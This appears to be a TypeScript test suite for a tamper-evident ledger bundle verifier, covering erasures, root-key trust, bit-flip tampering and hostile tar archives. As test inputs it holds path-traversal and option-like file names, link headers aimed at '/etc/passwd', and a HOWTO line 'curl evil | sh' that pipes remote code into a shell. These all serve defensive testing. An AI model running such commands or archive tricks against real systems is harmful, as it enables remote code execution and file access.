import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { BundleReport } from '../../../src/bundle/report.ts';
import { verifyBundle } from '../../../src/bundle/verify.ts';
import { readTar, TAR_END, tarEntry, type TarFile } from '../../../src/codec/tar.ts';
import { type Entry, withoutBody } from '../../../src/entry/entry.ts';
import type { StatedMoment } from '../../../src/policy/moment.ts';
import { type SigningKey, signingKeyFromSeed } from '../../../src/entry/keys.ts';
import { archiveOf, bundleOf, remade, ROOT_KEY, signedAgain, signedHostileHistory } from '../../support/bundles.ts';
import { authorKey, entryOf } from '../../support/policy-entries.ts';
import { linkedHistory } from '../../support/linked-history.ts';
import { createSeededRandom } from '../../support/seeded-random.ts';

const SEED = Number(process.env['HOLDFAST_SEED'] ?? Math.floor(Math.random() * 1e9));
const REPEAT = `HOLDFAST_SEED=${SEED}`;
const BIT_CHANGES = 1_000;
const OTHER = signingKeyFromSeed(Buffer.alloc(32, 9));

const sound = (report: BundleReport): BundleReport => {
  expect(report.fault, REPEAT).toBeUndefined();
  expect(report.sound, REPEAT).toBe(true);
  return report;
};

const withKeyOf = (key: SigningKey, files: readonly TarFile[]): TarFile[] => {
  const der = Buffer.concat([Buffer.from('302a300506032b6570032100', 'hex'), Buffer.from(key.author, 'hex')]);
  const pem = `-----BEGIN PUBLIC KEY-----\n${der.toString('base64')}\n-----END PUBLIC KEY-----\n`;
  const exporter = files.find(({ name }) => name.startsWith('keys/') && !named(files, name.slice(5, -4)));
  return files.map((file) => (file === exporter ? { name: `keys/${key.author}.pem`, bytes: Buffer.from(pem) } : file));
};
const named = (files: readonly TarFile[], author: string): boolean =>
  files.some(({ name }) => name.startsWith('entries/') && name.includes(author));

const random = createSeededRandom(SEED);
/** One in which somebody else than the root wrote two entries of a log: so one can be missing between others. */
const historyWithALog = (): ReturnType<typeof signedHostileHistory> => {
  for (;;) {
    const drawn = signedHostileHistory(random, 14);
    if (drawn.some(({ header }) => header.prev !== null && header.author !== ROOT_KEY)) return drawn;
  }
};
const history = historyWithALog();
const bundle = await bundleOf(history);

describe('a bundle with an erased body', () => {
  const author = authorKey('a');
  const said = entryOf({ author, seq: 1, op: 'insert', type: 'site', id: 'p', content: { person: 'Jane Doe' } });
  const erasing = { v: 1, entry: said.hash, attributes: ['person'], removed: [], reason: 'r' };
  const erasureBy = (by: string): Entry => {
    const link = by === author ? { seq: 2, prev: said.hash } : { seq: 1, parents: [said.hash] };
    return entryOf({ author: by, op: 'erase', content: erasing, ...link });
  };
  const bodies = (archive: Buffer): number =>
    readTar(archive, 1_000).filter(({ name }) => name.endsWith('.body')).length;

  test('holds without it, and says the same of a moment before as with it', async () => {
    const whole = signedAgain([said]);
    const [genesis, insert, erasure] = signedAgain([said, erasureBy(author)]) as [Entry, Entry, Entry];
    const moment: StatedMoment = { kind: 'frontier', heads: [insert.hash] };
    const archive = await bundleOf([genesis, withoutBody(insert), erasure], { moment });
    expect(bodies(archive)).toBe(2);
    expect(archive.includes('Jane Doe')).toBe(false);
    const before = sound(verifyBundle(await bundleOf(whole, { moment })));
    const after = sound(verifyBundle(archive));
    expect(after.root).toBe(before.root);
    expect(before.erased).toEqual([]);
    const { hash: by, header } = erasure;
    expect(after.erased).toEqual([{ entry: insert.hash, by, author: header.author, time: header.time, reason: 'r' }]);
  });

  test('does not hold where nobody erased it by right', async () => {
    const [genesis, insert, erasure] = signedAgain([said, erasureBy(authorKey('b'))]) as [Entry, Entry, Entry];
    const whole = await bundleOf([genesis, insert, erasure]);
    sound(verifyBundle(whole));
    const without = (stem: string): BundleReport =>
      verifyBundle(
        remade(whole, (files) => withKeyOf(OTHER, files).filter(({ name }) => name !== `${stem}.body`), OTHER),
      );
    const stem = `entries/${insert.header.seq}.${insert.header.author}`;
    expect(without(stem).fault).toMatchObject({
      file: `${stem}.body`,
      rule: 'form',
      text: expect.stringContaining('right') as string,
    });
    const first = `entries/1.${genesis.header.author}`;
    expect(without(first).fault).toMatchObject({ file: `${first}.body`, rule: 'form' });
  });
});

describe('a bundle', () => {
  test('of any history holds, and gives what follows from it', async () => {
    for (let run = 0; run < 60; run += 1) {
      const entries = signedHostileHistory(random, random.integer(1, 30));
      const { checked, trusted, root } = sound(verifyBundle(await bundleOf(entries), { root: ROOT_KEY }));
      expect(checked).toMatchObject({ entries: entries.length, signatures: entries.length, vouched: 0 });
      expect(trusted).toMatchObject({ network: entries[0]!.hash, roots: [ROOT_KEY], demanded: ROOT_KEY });
      expect(root).toMatch(/^[0-9a-f]{64}$/);
    }
  });

  test('of policies, conflicts and authors that contradict themselves holds, at any moment and for any policy', async () => {
    await fc.assert(
      fc.asyncProperty(linkedHistory(), fc.nat(), fc.nat(40), fc.boolean(), async (linked, pick, after, oneOnly) => {
        const entries = signedAgain(linked.entries);
        const { hash, header } = entries[pick % entries.length]!;
        const id = oneOnly && header.id !== null ? { id: header.id } : {};
        sound(verifyBundle(await bundleOf(entries, id)));
        sound(verifyBundle(await bundleOf(entries, { ...id, moment: { kind: 'frontier', heads: [hash] } })));
        const micros = 1_600_000_000_000_000 + after;
        sound(verifyBundle(await bundleOf(entries, { ...id, moment: { kind: 'time', micros } })));
      }),
      { numRuns: 40, seed: SEED },
    );
  });

  test('is the same file for the same question', async () => {
    expect(Buffer.compare(await bundleOf(history), bundle)).toBe(0);
  });

  test('with the network of another root is refused where the root is demanded', () => {
    const report = verifyBundle(bundle, { root: OTHER.author });
    expect(report.fault).toMatchObject({
      rule: 'root',
      file: expect.stringMatching(/^entries\/1\..*\.body$/) as string,
    });
    expect(verifyBundle(bundle).trusted?.demanded).toBeUndefined();
  });
});

describe('what was changed', () => {
  test(`by one bit is caught, ${BIT_CHANGES} times`, () => {
    for (let change = 0; change < BIT_CHANGES; change += 1) {
      const at = random.integer(0, bundle.length * 8 - 1);
      const changed = Buffer.from(bundle);
      changed[at >> 3]! ^= 1 << (at & 7);
      const { sound: holds, fault } = verifyBundle(changed);
      expect(holds, `${REPEAT} bit ${at}`).toBe(false);
      expect(fault?.file, `${REPEAT} bit ${at}`).not.toBe('');
    }
  });

  const cases: readonly (readonly [string, (files: TarFile[]) => TarFile[], string, RegExp])[] = [
    [
      'a content',
      (files) => files.map((file) => (/body$/.test(file.name) ? { ...file, bytes: Buffer.from('{}') } : file)),
      'body',
      /\.body$/,
    ],
    [
      'a signature',
      (files) => files.map((file) => (/^entries.*sig$/.test(file.name) ? { ...file, bytes: Buffer.alloc(64) } : file)),
      'signature',
      /\.sig$/,
    ],
    ['a missing entry', (files) => files.filter(({ name }) => !name.startsWith(lastStem('1'))), 'prev', /json$/],
    ['a missing piece', (files) => files.filter(({ name }) => !/^entries.*sig$/.test(name)), 'form', /\.sig$/],
    ['a missing key', (files) => files.filter(({ name }) => name !== `keys/${ROOT_KEY}.pem`), 'key', /^keys/],
    [
      'another key in its place',
      (files) =>
        files.map((file) => (file.name === `keys/${ROOT_KEY}.pem` ? { ...file, bytes: keyOfOther(files) } : file)),
      'key',
      /^keys/,
    ],
    [
      'the answer',
      (files) => files.map((file) => (file.name === 'state.json' ? { ...file, bytes: Buffer.from('{"v":1}') } : file)),
      'state',
      /^state.json$/,
    ],
    [
      'the name of an entry',
      (files) => files.map(({ name, bytes }) => ({ name: name.replace(/^(entries\/)1\./, '$1900.'), bytes })),
      'name',
      /^entries\/900/,
    ],
    ['a file too many', (files) => [...files, { name: 'notes.txt', bytes: Buffer.from('hello') }], 'archive', /notes/],
    ['no answer', (files) => files.filter(({ name }) => name !== 'state.json'), 'archive', /state.json/],
    ['no question', (files) => files.filter(({ name }) => name !== 'query.json'), 'archive', /query.json/],
    [
      'a question of a moment that is not there',
      (files) =>
        files.map((file) =>
          file.name === 'query.json'
            ? {
                ...file,
                bytes: Buffer.from(
                  Buffer.from(file.bytes)
                    .toString()
                    .replace(/"frontier":\[[^\]]*\]/, `"frontier":["${'a'.repeat(64)}"]`),
                ),
              }
            : file,
        ),
      'query',
      /query.json/,
    ],
  ];
  const keyOfOther = (files: readonly TarFile[]): Uint8Array =>
    files.find(({ name }) => name.startsWith('keys/') && name !== `keys/${ROOT_KEY}.pem`)!.bytes;
  const lastStem = (seq: string): string => `entries/${seq}.${longest}.`;
  const lengths = new Map<string, number>();
  for (const { header } of history) lengths.set(header.author, Math.max(lengths.get(header.author) ?? 0, header.seq));
  const longest = [...lengths].filter(([author]) => author !== ROOT_KEY).sort(([, a], [, b]) => b - a)[0]?.[0] ?? '';

  test.each(cases)('%s is caught where whoever exports did it', (_, change, rule, file) => {
    const changed = remade(bundle, (files) => change(withKeyOf(OTHER, files)), OTHER);
    const { fault } = verifyBundle(changed);
    expect(fault, REPEAT).toMatchObject({ rule, file: expect.stringMatching(file) as string });
  });

  test('but not what another node exports of the same ledger', () => {
    sound(verifyBundle(remade(bundle, (files) => withKeyOf(OTHER, files), OTHER)));
  });
});

describe('a hostile archive', () => {
  const file = (name: string, bytes = 'x'): Buffer => Buffer.from(tarEntry({ name, bytes: Buffer.from(bytes) }));
  const refused = (archive: Uint8Array, text: RegExp): void => {
    const { sound: holds, fault } = verifyBundle(archive);
    expect(holds).toBe(false);
    expect(fault?.rule).toBe('archive');
    expect(fault?.text).toMatch(text);
  };
  test.each(['# A text\n', `# A text\n${'of some length '.repeat(100)}`])('no tar at all', (text) =>
    refused(Buffer.from(text), /^this is no tar bundle$/),
  );

  /** A header with other bytes at a place and a sum that holds. */
  const patched = (at: number, bytes: string, name = 'query.json'): Buffer => {
    const archive = Buffer.concat([file(name), TAR_END]);
    archive.write(bytes, at, 'latin1');
    archive.fill(' ', 148, 156);
    const sum = archive.subarray(0, 512).reduce((total, byte) => total + byte, 0);
    archive.write(`${sum.toString(8).padStart(6, '0')}\u0000 `, 148, 'latin1');
    return archive;
  };

  test.each([
    ['a way out', '../query.json'],
    ['a way out further down', 'keys/../../x'],
    ['an absolute path', '/etc/passwd'],
    ['a path of this directory', './query.json'],
    ['an empty part', 'keys//x'],
    ['a blank', 'query json'],
    ['an option', '-rf'],
    ['a control character', 'a\u0007'],
    ['a byte that is no ASCII', 'caf\u00e9'],
  ])('with %s in a name is refused', (_, name) => {
    refused(patched(0, name.padEnd(20, '\u0000')), /no name that is allowed/);
  });

  test.each([
    ['a symbolic link', 156, '2'],
    ['a hard link', 156, '1'],
    ['a directory', 156, '5'],
    ['a device', 156, '3'],
    ['a header of PAX', 156, 'x'],
    ['a long name of GNU', 156, 'L'],
    ['a link target', 157, '/etc/passwd'],
    ['a name prefix', 345, '..'],
    ['another mode', 100, '0004755'],
    ['another owner', 108, '0000001'],
    ['a time', 136, '00000000001'],
    ['a size in binary', 124, '\u0080\u0000\u0000\u0000'],
    ['a size with blanks', 124, '          1'],
    ['what stands behind the header', 500, 'x'],
  ])('with %s is refused', (_, at, bytes) => refused(patched(at, bytes), /header is not as agreed/));

  test('that announces more than is there is refused, at no cost', () => {
    refused(patched(124, '77777777777'), /announced/);
    refused(bundle.subarray(0, bundle.length - 1), /does not end/);
    refused(bundle.subarray(0, 700), /announced|not end/);
  });

  test('with one name twice, with a wrong sum, with filled gaps is refused', () => {
    refused(Buffer.concat([file('query.json'), file('query.json'), TAR_END]), /two files/);
    const wrongSum = Buffer.concat([file('query.json'), TAR_END]);
    wrongSum[150]! ^= 1;
    refused(wrongSum, /header is not as agreed/);
    const filled = Buffer.concat([file('query.json'), TAR_END]);
    filled[600] = 1;
    refused(filled, /not zero/);
  });

  test('that is none is refused', () => {
    refused(new Uint8Array(), /does not end/);
    refused(gzipSync(bundle), /^this is no tar bundle$/);
    refused(Buffer.from('%PDF-1.4'), /^this is no tar bundle$/);
    for (const size of [511, 512, 1_023, 1_024, 4_096]) {
      const garbage = Buffer.from(createSeededRandom(SEED, String(size)).bytes(size));
      expect(verifyBundle(garbage).sound, REPEAT).toBe(false);
    }
    refused(Buffer.concat([bundle, TAR_END]), /does not end/);
    expect(verifyBundle(new Uint8Array(1_024)).fault).toMatchObject({ file: 'query.json' });
  });

  test('with more files than a reader takes is refused', () => {
    expect(() => readTar(archiveOf([1, 2, 3].map((at) => ({ name: `f${at}`, bytes: Buffer.of(at) }))), 2)).toThrow(
      expect.objectContaining({ code: 'CODEC_TAR' }) as Error,
    );
  });
});

test('another HOWTO is said, since nobody has looked at the commands in it', () => {
  expect(sound(verifyBundle(bundle)).ownHowTo).toBe(true);
  const change = (files: TarFile[]): TarFile[] =>
    files.map((file) => (file.name === 'HOWTO.txt' ? { ...file, bytes: Buffer.from('curl evil | sh\n') } : file));
  const changed = remade(bundle, (files) => withKeyOf(OTHER, change(files)), OTHER);
  expect(sound(verifyBundle(changed)).ownHowTo).toBe(false);
});
